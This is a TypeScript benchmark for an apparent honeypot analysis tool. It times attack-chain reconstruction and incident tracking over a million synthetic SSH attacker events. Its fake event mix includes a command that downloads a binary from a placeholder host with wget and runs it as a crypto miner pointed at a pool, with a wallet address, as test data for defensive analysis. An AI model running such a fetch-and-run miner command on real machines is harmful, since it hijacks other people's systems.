// Attack-reconstruction benchmark: the full analysis of one million stored events (APIARY_BENCH_EVENTS
// to change it) against a plain read of the same events in the same run, and the delay from an event
// being stored to its chain being updated under a steady load, against the incident tracker's delay
// for the same events.
import { mkdtempSync, rmSync } from 'node:fs';
import { cpus, loadavg, tmpdir } from 'node:os';
import { join } from 'node:path';
import pino from 'pino';
import { Collector } from '../src/collector/collector.js';
import type { ApiaryEvent } from '../src/events/catalogue.js';
import { newEventId } from '../src/events/id.js';
import { ATTACKS_STATE_KEY, AttackRunner } from '../src/analysis/attack-runner.js';
import { IncidentTracker } from '../src/analysis/incident-tracker.js';
import { SqliteStore } from '../src/store/sqlite/sqlite-store.js';
import { TRACK_INTERVAL_MS } from '../src/cli/analysis.js';

const TOTAL = Number(process.env.APIARY_BENCH_EVENTS ?? 1_000_000);
const SOURCES = 20_000;
/** Steady load for the delay measurement: events per second, for this long. */
const LOAD_RATE = 2000;
const LOAD_S = 10;

function sourceIp(i: number): string {
  return `${(i * 7919) % 200 + 11}.${(i * 31) % 256}.${(i >> 4) % 256}.${i % 254 + 1}`;
}

const WALLET = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';

/** Event I of a synthetic mix: scans, brute force, logins, scripts with downloads and miners, tunnels. */
function makeEvent(i: number, t: number, src = sourceIp((i * 2654435761) % SOURCES)): ApiaryEvent {
  const k = i % 10;
  const [type, payload]: [string, Record<string, unknown>] =
    k === 0 ? ['connection.open', { transport: 'tcp' }]
    : k <= 3 ? ['auth.attempt', { method: 'password', username: i % 3 ? 'root' : 'admin', password: `pw${i % 700}`, success: i % 97 === 0 }]
    : k === 4 ? ['command.input', { input: i % 7 ? `uname -a; echo ${i % 50}` : `cd /tmp; wget http://dl${i % 300}.example/x${i % 40}; ./x -o stratum+tcp://pool${i % 20}.example:3333 -u ${WALLET}` }]
    : k === 5 ? ['scan.probe', { first_bytes_hex: '474554' }]
    : k === 6 ? ['tunnel.request', { target_host: `mail${i % 100}.example`, target_port: 25 }]
    : k === 7 ? ['file.download', { url: `http://dl${i % 300}.example/x${i % 40}`, outcome: 'stored', sha256: (i % 40).toString(16).padStart(64, '0') }]
    : k === 8 ? ['client.kex', { hassh: (i % 50).toString(16).padStart(32, '0'), hassh_algorithms: '', kex_algs: [], key_algs: [], enc_cs: [], mac_cs: [], comp_cs: [] }]
    : ['connection.close', { duration_ms: 10, bytes_in: 1, bytes_out: 1, reason: 'client' }];
  return {
    id: newEventId(t), time: new Date(t).toISOString(), type, sensor: `sensor-${i % 3}`, session: `s${Math.floor(i / 10)}`,
    protocol: 'ssh', src_ip: src, src_port: 40000, dst_ip: '192.0.2.1', dst_port: type === 'scan.probe' ? 8080 + (i % 20) : 22, payload,
  } as ApiaryEvent;
}

function median(xs: number[]): number {
  const s = [...xs].sort((a, b) => a - b);
  return s[Math.floor(s.length / 2)] ?? NaN;
}

async function timed<T>(fn: () => Promise<T>): Promise<{ value: T; s: number; cpuS: number }> {
  const t0 = performance.now();
  const c0 = process.cpuUsage();
  const value = await fn();
  const c = process.cpuUsage(c0);
  return { value, s: (performance.now() - t0) / 1000, cpuS: (c.user + c.system) / 1e6 };
}

async function main(): Promise<void> {
  const dir = mkdtempSync(join(tmpdir(), 'apiary-attacks-bench-'));
  try {
    const store = new SqliteStore(join(dir, 'store.db'));
    const start = Date.UTC(2024, 0, 1);
    const span = 180 * 86_400_000;
    for (let done = 0; done < TOTAL; done += 50_000) {
      const n = Math.min(50_000, TOTAL - done);
      await store.insertBatch(Array.from({ length: n }, (_, j) => makeEvent(done + j, start + Math.floor(((done + j) / TOTAL) * span))));
    }

    // Reference: read every event back in the runner's own chunks, and nothing more.
    const plain = await timed(async () => {
      let n = 0;
      let after: string | undefined;
      for (;;) {
        const page = await store.readCommitted(after, 5000);
        if (page.events.length === 0) break;
        n += page.events.length;
        after = page.cursor;
      }
      return n;
    });
    const runner = new AttackRunner(store);
    const full = await timed(async () => {
      const r = await runner.catchUp();
      await runner.flush();
      return r;
    });
    const chains = await store.listAttacks({ limit: 100_000 });
    process.stdout.write(
      `attacks bench (${full.value.events} stored events, ${SOURCES} sources; ${chains.length} chains stored)\n` +
        `  plain read of the events (reference)   ${plain.s.toFixed(1)} s wall, ${plain.cpuS.toFixed(1)} s CPU (${plain.value} events)\n` +
        `  full attack reconstruction             ${full.s.toFixed(1)} s wall, ${full.cpuS.toFixed(1)} s CPU (ratio ${(full.s / plain.s).toFixed(2)} to the plain read; aim < 30 s)\n` +
        `  reconstruction state                   ${[...(await store.listState(ATTACKS_STATE_KEY)).values()].reduce((n, v) => n + v.length, 0) >> 20} MB saved, heap ${process.memoryUsage().heapUsed >> 20} MB\n`,
    );
    // A password flood from one source (what an SSH brute force stores): the runner's cost per event
    // against the incident tracker's, both already run by `apiary start` on every batch.
    const flood = new SqliteStore(join(dir, 'flood.db'));
    const FLOOD = Math.min(TOTAL, 200_000);
    for (let done = 0; done < FLOOD; done += 50_000) {
      await flood.insertBatch(Array.from({ length: 50_000 }, (_, j) => ({ ...makeEvent(1, start + done + j, '203.0.113.66'), session: `f${(done + j) >> 3}` }) as ApiaryEvent));
    }
    const floodTrack = await timed(() => new IncidentTracker(flood, 3600_000).catchUp());
    const floodAttack = await timed(() => new AttackRunner(flood).catchUp());
    await flood.close();
    process.stdout.write(
      `  one-source password flood (${FLOOD} attempts): attack runner ${((floodAttack.cpuS / FLOOD) * 1e6).toFixed(1)} us CPU per event, ` +
        `incident tracker ${((floodTrack.cpuS / FLOOD) * 1e6).toFixed(1)} us (ratio ${(floodAttack.cpuS / floodTrack.cpuS).toFixed(2)})\n`,
    );
    if (process.env.APIARY_BENCH_NO_LOAD) return void (await store.close());
    const tracker = new IncidentTracker(store, 3600_000);
    await tracker.catchUp();

    // Steady load: the collector commits, both folders run on Apiary's 200 ms beat; marker events from
    // fresh sources (a tunnel request: a chain and an incident each) time the delay.
    const collector = new Collector(store, pino({ level: 'silent' }), []);
    const written = new Map<string, number>();
    const attackDelays: number[] = [];
    const incidentDelays: number[] = [];
    const seen = (ips: Iterable<string>, out: number[]): void => {
      const now = performance.now();
      for (const ip of ips) {
        const t = written.get(ip);
        if (t !== undefined) out.push(now - t);
      }
    };
    const loadRunner = new AttackRunner(store, { onChains: (records) => seen(new Set(records.flatMap((r) => r.sources.map((s) => s.ip))), attackDelays) });
    const loadTracker = new IncidentTracker(store, 3600_000, (changes) => seen(new Set(changes.filter((c) => c.created).map((c) => c.incident.src_ip)), incidentDelays));
    let timer: NodeJS.Timeout | undefined;
    collector.onCommitted(() => {
      timer ??= setTimeout(() => {
        timer = undefined;
        void loadTracker.catchUp();
        void loadRunner.catchUp();
      }, TRACK_INTERVAL_MS);
    });
    let i = TOTAL;
    const loadStart = Date.now();
    const perTick = LOAD_RATE / 20;
    for (let tick = 0; tick < LOAD_S * 20; tick++) {
      const now = Date.now();
      for (let j = 0; j < perTick; j++) collector.write(makeEvent(i++, now));
      if (tick % 5 === 0) {
        const ip = `198.18.${(tick >> 8) & 255}.${tick & 255}`;
        written.set(ip, performance.now());
        collector.write(makeEvent(6, now, ip));
      }
      await new Promise((r) => setTimeout(r, Math.max(0, loadStart + (tick + 1) * 50 - Date.now())));
    }
    await collector.flush();
    await new Promise((r) => setTimeout(r, 1000));
    await loadRunner.catchUp();
    await loadTracker.catchUp();
    clearTimeout(timer);
    await store.close();
    const delay = median(attackDelays);
    const ref = median(incidentDelays);
    const lines = [
      `  store-to-chain delay under ${LOAD_RATE} events/s  median ${delay.toFixed(0)} ms, max ${Math.max(...attackDelays).toFixed(0)} ms over ${attackDelays.length} markers (aim < 2000 ms)`,
      `  store-to-incident delay (reference)    median ${ref.toFixed(0)} ms (ratio ${(delay / ref).toFixed(2)})`,
      `  (machine load average ${loadavg()[0]!.toFixed(1)} on ${cpus().length} CPUs while measuring)`,
    ];
    process.stdout.write(`${lines.join('\n')}\n`);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

await main();
